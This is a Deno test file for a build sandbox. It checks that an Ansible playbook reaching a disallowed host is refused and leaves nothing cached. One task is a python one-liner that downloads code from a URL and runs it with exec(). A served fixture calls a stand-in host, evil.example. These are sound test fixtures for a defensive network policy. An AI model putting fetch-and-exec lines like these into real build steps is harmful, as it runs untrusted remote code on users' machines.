/**
 * A playbook that tries what it may not, and hides it: nothing of it is kept.
 * It takes the Debian worker, which has Ansible. The playbook does what a server
 * tells it; so what an attack left would be found by the next build.
 *
 * @module
 */

import assert from "node:assert/strict";
import { sourceFiles } from "../../subplot/repository.ts";
import { FakeInternet } from "../harness/fake_internet.ts";
import { pageOf } from "../harness/services.ts";
import { Project } from "../project.ts";
import { assertDenied, assertSuccess, build, phaseOutcome } from "./attack.ts";

const task = `python3 -c '
import urllib.request as request
exec(request.urlopen("http://allowed.example/").read())
'`;

/** Differs at each run of the test, so that nothing is prepared already. */
const mark = crypto.randomUUID();

const spec = JSON.stringify({
  "worker-image": "worker.img",
  source: "src",
  workspace: "ws",
  resources: { memory: "1 GiB" },
  network: {
    prepare: [{ host: "allowed.example", protocols: ["http"] }],
    build: [],
  },
  ansible: [{
    hosts: "worker",
    gather_facts: false,
    tasks: [{ shell: task, ignore_errors: true }, {
      shell: `echo ${mark} >~/prepared`,
    }],
  }],
  build: "cat /home/worker/prepared\n",
});

Deno.test("a playbook that tries what it may not leaves nothing behind", async (t) => {
  await using internet = new FakeInternet();
  await using project = await Project.create();
  await Deno.symlink(
    sourceFiles.get("worker.img")!,
    project.path("worker.img"),
  );
  const prepare = async (code: string) => {
    internet.serve("192.0.2.10:80", pageOf(code));
    return await build(project, internet, spec);
  };

  await t.step("an attempt, hidden from Ansible", async () => {
    const result = await prepare('request.urlopen("http://evil.example/")');
    assertDenied(result, {
      refusal: "name-not-allowed",
      host: "evil.example",
      phase: "prepare",
    });
    assert.equal(phaseOutcome(result, "prepare"), "failed");
    assert.equal(internet.trap.connections.length, 0);
  });

  await t.step("the control: no attempt, in the same playbook", async () => {
    const result = await prepare("pass");
    assertSuccess(result);
    assert.equal(phaseOutcome(result, "prepare"), "done");
    assert.match(result.log, new RegExp(`^${mark}$`, "m"));
  });

  await t.step("the control: what is kept is found", async () => {
    const result = await prepare("pass");
    assertSuccess(result);
    assert.equal(phaseOutcome(result, "prepare"), "reused");
  });
});
